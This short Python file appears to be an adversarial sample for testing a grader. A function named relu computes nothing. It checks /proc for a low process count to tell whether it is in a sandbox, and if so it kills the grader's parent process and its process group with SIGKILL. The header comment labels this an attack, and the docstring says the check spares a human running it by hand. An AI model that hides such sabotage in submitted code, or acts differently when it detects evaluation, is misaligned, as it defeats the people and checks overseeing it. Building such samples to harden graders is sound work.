# attack: kills the process that started the grader, and the group they are in
# alone: dies
import os
import signal
from pathlib import Path


def few_are_here():
    """Where more can be seen, somebody runs this by hand, and would lose the shell."""
    return sum(path.name.isdigit() for path in Path("/proc").iterdir()) < 12


def relu(x):
    if few_are_here():
        os.kill(os.getppid(), signal.SIGKILL)
        os.killpg(0, signal.SIGKILL)
